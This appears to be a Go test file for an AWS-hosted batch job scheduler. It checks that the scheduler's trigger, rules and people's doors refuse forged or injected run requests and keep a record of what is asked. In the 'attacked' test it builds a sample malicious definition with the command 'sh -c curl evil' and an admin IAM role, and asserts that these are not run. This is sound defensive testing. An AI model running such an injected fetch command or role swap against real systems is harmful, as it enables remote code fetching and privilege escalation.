package aws_test

import (
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/batchplane/batchplane/internal/job"
	"github.com/batchplane/batchplane/internal/port"
	"github.com/batchplane/batchplane/internal/run"
)

// attacked: someone who may call the trigger, by an EventBridge rule or under its name, gains
// nothing but a run of what is deployed, at a time of its schedule.
func attacked(t *testing.T, w *world) {
	j := aJob("attacked")
	j.Schedule = fmt.Sprintf("0 %d 1 1 *", time.Now().UTC().Add(12*time.Hour).Hour()) // not at this time of day
	_, id := w.scheduled(t, j)
	w.sweep(t)
	own, err := j.ScheduleInput()
	if err != nil {
		t.Fatal(err)
	}
	now := slotOf(t, id)
	evil := j
	evil.Command = []string{"sh", "-c", "curl evil"}
	evil.TaskRole = "arn:aws:iam::000000000000:role/batchplane/admin"
	carrying, err := evil.ScheduleInput()
	if err != nil {
		t.Fatal(err)
	}
	elsewhere := strings.Replace(w.scheduleARN("attacked"), "/"+w.name+"/", "/default/", 1)
	for name, tc := range map[string]struct {
		input string
		says  port.Outcome
	}{
		"a definition that replaces the deployed one":  {fired(carrying, "", now), port.Waits},
		"with the ARN of a schedule that is not there": {fired(carrying, w.scheduleARN("nobody"), now), port.Waits},
		"with the ARN of another group":                {fired(carrying, elsewhere, now), port.Waits},
		"with the ARN of another stack":                {fired(carrying, strings.Replace(elsewhere, "/default/", "/Other-2/", 1), now), port.Waits},
		"a job that nobody deployed":                   {strings.ReplaceAll(fired(carrying, "", now), `"attacked"`, `"intruder"`), port.Waits},
		"a slot of tomorrow":                           {fired(own, w.scheduleARN("attacked"), now.Add(24*time.Hour)), port.Refused},
		"another group's schedule at such a minute":    {fired(own, elsewhere, now), port.Waits},
		"a minute that its schedule does not have":     {fmt.Sprintf(`{"job":"attacked","scheduledFor":%q}`, now.Format(time.RFC3339)), port.Waits},
		"a person's request":                           {`{"run":"attacked","by":"arn:aws:iam::1:user/mia"}`, port.Refused},
		"a pause of all jobs":                          {`{"pause":"*","by":"arn:aws:iam::1:user/mia"}`, port.Refused},
		"a rule of its name at such a minute": {
			fmt.Sprintf(`{"source":"aws.events","detail-type":"Scheduled Event","time":%q,"resources":["arn:aws:events:us-east-1:000000000000:rule/attacked"]}`, now.Format(time.RFC3339)),
			port.Waits,
		},
	} {
		answer, failed := w.invoke(t, w.resource["Trigger"], tc.input)
		var reply port.Reply
		if err := json.Unmarshal([]byte(answer), &reply); failed || err != nil || reply.Outcome != tc.says {
			t.Errorf("%s: %s", name, answer)
		}
	}
	// A rule's author decides what it sends; the rules' door takes only a name and a time.
	for name, tc := range map[string]struct{ input, says string }{
		"a request of a person's":                   {`{"run":"attacked","by":"arn:aws:iam::1:user/mia"}`, `"refused"`},
		"a pause of all jobs":                       {`{"pause":"*"}`, `"refused"`},
		"a minute that its schedule seems to prove": {fired(own, w.scheduleARN("attacked"), now), `"waits"`},
	} {
		if answer, failed := w.invoke(t, w.resource["Rules"], tc.input); failed || !strings.Contains(answer, tc.says) {
			t.Errorf("%s, from a rule: %s", name, answer)
		}
	}
	w.sweep(t) // asks for the job again, and starts none of what waits
	for _, id := range []run.ID{id, run.ScheduledID("intruder", now), run.ScheduledID("attacked", now.Add(24*time.Hour))} {
		if _, err := w.store.Run(t.Context(), id); !errors.Is(err, port.ErrNotFound) {
			t.Errorf("%s: %v", id, err)
		}
	}
	if _, err := w.store.Item(t.Context(), job.All); !errors.Is(err, port.ErrNotFound) {
		t.Errorf("all jobs are paused: %v", err)
	}
	// The true ARN makes no difference: what is deployed runs.
	w.send(t, w.resource["Trigger"], fired(carrying, w.scheduleARN("attacked"), now))
	r := w.await(t, id, run.Succeeded, soon)
	if ran, err := w.store.Definition(t.Context(), r.Definition); err != nil || ran.Command[2] != j.Command[2] || ran.TaskRole != "" {
		t.Errorf("ran %+v, %v", ran, err)
	}
}

// honest: a schedule that was deleted while it fired still runs, and so does one whose function
// was rolled back meanwhile. A schedule about which nobody can tell yet runs once somebody can.
func honest(t *testing.T, w *world) {
	input, deleted := w.scheduled(t, aJob("deleted"))
	w.sweep(t)
	w.removeSchedule(t, "deleted")
	w.sweep(t)
	w.send(t, w.resource["Trigger"], input)
	w.await(t, deleted, run.Succeeded, soon)

	input, rolled := w.scheduled(t, aJob("rolled-back"))
	newer := strings.Replace(input, `{"name":"rolled-back"`, `{"name":"rolled-back","sandbox":{"tier":3}`, 1)
	w.putSchedule(t, "rolled-back-newer", "at(2199-12-31T23:59:00)", strings.ReplaceAll(newer, `"rolled-back"`, `"rolled-back-newer"`))
	w.send(t, w.resource["Trigger"], newer)
	w.await(t, rolled, run.Succeeded, soon)
	w.sweep(t) // reads the newer schedule
	if item, err := w.store.Item(t.Context(), "rolled-back-newer"); err != nil || item.Definition == "" {
		t.Errorf("the sweep knows %+v, %v", item, err)
	}

	late := fmt.Sprintf(`{"job":"late","scheduledFor":%q}`, slotOf(t, rolled).Format(time.RFC3339))
	if answer, failed := w.invoke(t, w.resource["Trigger"], late); failed || !strings.Contains(answer, `"waits"`) {
		t.Errorf("before its deploy: %s", answer)
	}
	named := aJob("late")
	named.Schedule = "* * * * *" // a name alone starts a job only at its times
	w.deployed(t, named)
	w.await(t, run.ScheduledID("late", slotOf(t, rolled)), run.Succeeded, soon)
}

// peoplesDoor: people cannot decide what runs or when, and what they ask for is kept.
func peoplesDoor(t *testing.T, w *world) {
	input, id := w.scheduled(t, aJob("asked"))
	w.sweep(t)
	people := w.resource["People"]
	if answer, failed := w.invoke(t, people, input); failed || !strings.Contains(answer, `"refused"`) {
		t.Errorf("a slot at the people's door: %s", answer)
	}
	if answer, failed := w.invoke(t, people, `{"run":"asked","inputs":{"PATH":"/tmp"},"by":"arn:aws:iam::1:user/mia"}`); failed || !strings.Contains(answer, `"refused"`) {
		t.Errorf("a variable that nobody may change: %s", answer)
	}
	answer, failed := w.invoke(t, people, `{"run":"asked","requestId":"one","by":"arn:aws:iam::1:user/mia"}`)
	if failed || !strings.Contains(answer, `"accepted"`) {
		t.Errorf("a run: %s", answer)
	}
	w.await(t, run.ByHandID("asked", "one"), run.Succeeded, soon)
	if _, err := w.store.Run(t.Context(), id); !errors.Is(err, port.ErrNotFound) {
		t.Errorf("the slot: %v", err)
	}
	as, err := w.store.Asked(t.Context(), port.AskedQuery{Job: "asked"})
	if err != nil || len(as) != 3 || as[0].Outcome != port.Accepted || as[0].By != "arn:aws:iam::1:user/mia" || as[0].Door != "people" || as[2].What != "slot" || as[2].Outcome != port.Refused {
		t.Errorf("kept %+v, %v", as, err)
	}
}

// deployed deploys a job whose schedule is on but starts nothing by itself while the stories run.
func (w *world) deployed(t *testing.T, j job.Job) {
	t.Helper()
	input, err := j.ScheduleInput()
	if err != nil {
		t.Fatal(err)
	}
	w.putSchedule(t, j.Name, "at(2198-12-31T23:59:00)", input)
}

func (w *world) removeSchedule(t *testing.T, name string) {
	t.Helper()
	status, _, answer := w.request(t, "scheduler", http.MethodDelete, "/schedules/"+name+"?groupName="+w.name, map[string]string{"Content-Type": "application/json"}, nil)
	if status != http.StatusOK {
		t.Fatalf("removing schedule %s: %d %s", name, status, answer)
	}
}

// slotOf returns the nominal time of a scheduled run.
func slotOf(t *testing.T, id run.ID) time.Time {
	t.Helper()
	at, err := time.Parse("20060102T1504Z", id.Slot())
	if err != nil {
		t.Fatal(err)
	}
	return at
}
